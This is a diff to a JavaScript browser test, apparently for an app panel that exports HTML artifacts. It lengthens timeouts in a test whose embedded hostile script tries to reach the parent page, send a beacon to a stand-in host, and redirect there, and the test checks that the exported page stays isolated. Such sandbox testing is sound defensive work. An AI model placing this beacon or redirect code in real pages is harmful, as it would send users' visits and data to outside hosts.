@@ -134,7 +134,7 @@ describe('what the panel does with an artifact', { timeout: 900_000 }, () => {
 try { parent.document.title = 'taken'; document.querySelector('#t').textContent = 'reached the page'; }
   catch { document.querySelector('#t').textContent = 'alone'; }
 try { navigator.sendBeacon('https://collect.example.net/b'); } catch {}
-setTimeout(() => { try { location.href = 'https://collect.example.net/n'; } catch {} }, 300);</script>`;
+setTimeout(() => { try { location.href = 'https://collect.example.net/n'; } catch {} }, 2_000);</script>`;
     const { page, close } = await openPanel(site, 'html', [hostile]);
     await running(page);
     const { file } = await exported(page, /^\s*Save as web page\s*$/);
@@ -142,7 +142,7 @@ setTimeout(() => { try { location.href = 'https://collect.example.net/n'; } catc
     const seen = site.collected.length;
     const opened = await fromDisk(file);
     await opened.page.frameLocator('iframe').locator('#t', { hasText: 'alone' }).waitFor();
-    await opened.page.waitForTimeout(1_500);
+    await opened.page.waitForTimeout(3_000);
     assert.equal(await opened.page.title(), 'Planner');
     assert.deepEqual(
       opened.requests.filter((url) => url !== pathToFileURL(file).href && !url.startsWith('chrome-error')),
